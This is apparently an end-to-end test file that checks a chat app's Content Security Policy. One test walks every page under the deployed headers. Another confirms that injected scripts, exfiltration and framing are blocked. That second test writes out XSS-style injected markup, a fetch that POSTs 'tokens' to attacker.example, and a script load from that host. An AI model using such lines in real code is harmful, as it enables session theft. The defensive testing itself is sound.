import { describe, expect, it } from 'vitest'
import type { E2eRun } from '../support/e2eRun'
import { openPerson, saveArtifacts, useCast, type Person } from '../support/people'
import { openChat, sendMessage, waitForSent, waitUntilLive } from '../../../testkit/browser/chatPage'
import { signUpThroughAuthenticator, waitUntilSignedIn } from '../support/authenticator'
import { testDisplayName } from '../../../testkit/backend/cognitoUsers'
import { TEST_CONFIRMATION_CODE } from '../../../testkit/backend/testBackend'
import { PREVIEW_HEADERS } from '../../../hosting/securityHeaders'
import { uniqueTag } from '../../../testkit/unique'

const PASSWORD = 'Passw0rd!long'

/** What the browser console said as a warning (Vue, Vuetify, aws-amplify). */
function consoleWarnings(person: Person): string[] {
  return person.consoleLog.filter((line) => / \[warning\] /.test(line))
}

/** What the browser console said that is an error: uncaught exceptions and console.error lines. */
function consoleErrors(person: Person): string[] {
  return person.consoleLog.filter((line) => / \[(error|pageerror)\] /.test(line))
}

// The production build is served by `vite preview` with the headers Amplify Hosting sends
// (hosting/securityHeaders.ts), so this is the app under its deployed policy. Every scenario already fails
// on a violation (useCast); this one walks every page and also fails on any console error.
export function contentSecurityPolicyScenario(run: () => E2eRun): void {
  describe('7. content security policy', () => {
    const cast = useCast(run)

    it('every page works under the deployed headers, signed out and in, with no violation, console error or warning', async () => {
      const tag = uniqueTag()
      const appUrl = run().appUrl
      const p = await cast.enter('P')

      const home = await p.page.goto(`${appUrl}/`)
      expect(home?.headers()['content-security-policy']).toBe(PREVIEW_HEADERS['Content-Security-Policy'])
      for (const [name, value] of Object.entries(PREVIEW_HEADERS)) {
        expect(home?.headers()[name.toLowerCase()], name).toBe(value)
      }
      await p.page.getByTestId('nav-open').waitFor()

      await openChat(p.page, `${appUrl}/open`)
      await sendMessage(p.page, `open under CSP ${tag}`)
      await waitForSent(p.page, `open under CSP ${tag}`)

      await openChat(p.page, `${appUrl}/rooms/csp-${tag}`)
      await sendMessage(p.page, `room under CSP ${tag}`)
      await waitForSent(p.page, `room under CSP ${tag}`)

      const closedUrl = `${appUrl}/closed/csp-${tag}`
      await openChat(p.page, closedUrl)
      await p.page.getByTestId('sign-in-prompt').waitFor()
      await p.page.getByTestId('sign-in-to-post').click()
      await p.page.waitForURL(/\/signin\?redirect=/)
      const email = `csp-${tag}@example.com`
      await signUpThroughAuthenticator(
        p.page,
        email,
        PASSWORD,
        TEST_CONFIRMATION_CODE,
        testDisplayName(email),
      )
      await p.page.waitForURL(closedUrl)
      await waitUntilSignedIn(p.page, email)
      await waitUntilLive(p.page)
      await sendMessage(p.page, `closed under CSP ${tag}`)
      await waitForSent(p.page, `closed under CSP ${tag}`)

      // The other theme rewrites Vuetify's theme stylesheet at run time.
      await p.page.getByTestId('theme-toggle').click()
      await p.page.reload()
      await waitUntilLive(p.page)

      await p.page.goto(`${appUrl}/no-such-page`)
      await p.page
        .getByText(/not found/i)
        .first()
        .waitFor()
      await p.page.getByTestId('sign-out').click()
      await p.page.getByTestId('sign-in-link').waitFor()

      expect(p.cspViolations).toEqual([])
      expect(consoleErrors(p)).toEqual([])
      expect(consoleWarnings(p)).toEqual([])
    })

    it('an injected script does not run, cannot send data to another origin, and the app cannot be framed', async () => {
      const appUrl = run().appUrl
      // Not through the cast: this test expects violations and checks them itself.
      const m = await openPerson(run(), 'M')
      try {
        await openChat(m.page, `${appUrl}/open`)

        // Markup injected into the page, as a message rendered with v-html would be.
        await m.page.evaluate(() => {
          const holder = document.createElement('div')
          holder.innerHTML = '<img src="/favicon.svg" onload="window.__injected = \'handler\'">'
          document.body.append(holder)
          const script = document.createElement('script')
          script.textContent = "window.__injected = 'inline script'"
          document.body.append(script)
        })
        await expect.poll(() => m.cspViolations.filter((text) => /script-src/.test(text)).length).toBe(2)
        expect(await m.page.evaluate(() => (window as { __injected?: string }).__injected)).toBeUndefined()

        // Sending the session elsewhere: blocked before any request leaves the browser.
        const sent = await m.page.evaluate(async () => {
          try {
            await fetch('https://attacker.example/collect', { method: 'POST', body: 'tokens' })
            return 'sent'
          } catch {
            return 'blocked'
          }
        })
        expect(sent).toBe('blocked')
        await expect
          .poll(() =>
            m.cspViolations.some((text) => /connect-src blocked https:\/\/attacker\.example/.test(text)),
          )
          .toBe(true)
        const scriptFromElsewhere = await m.page.evaluate(
          () =>
            new Promise<string>((resolve) => {
              const script = document.createElement('script')
              script.src = 'https://attacker.example/payload.js'
              script.onload = () => resolve('loaded')
              script.onerror = () => resolve('refused')
              document.body.append(script)
            }),
        )
        expect(scriptFromElsewhere).toBe('refused')

        // Framed by another page (clickjacking): the browser refuses to render the app in the frame.
        await m.page.goto('about:blank')
        await m.page.setContent(`<iframe src="${appUrl}/open" width="800" height="600"></iframe>`)
        const frameElement = await m.page.waitForSelector('iframe')
        await expect
          .poll(async () => (await frameElement.contentFrame())?.url() ?? '')
          .not.toBe('about:blank')
        const frame = await frameElement.contentFrame()
        expect(frame?.url()).not.toContain(appUrl)
        expect(await frame?.locator('#app').count()).toBe(0)
      } catch (error) {
        await saveArtifacts('content security policy attack', [m])
        throw error
      } finally {
        await m.context.close()
      }
    })
  })
}
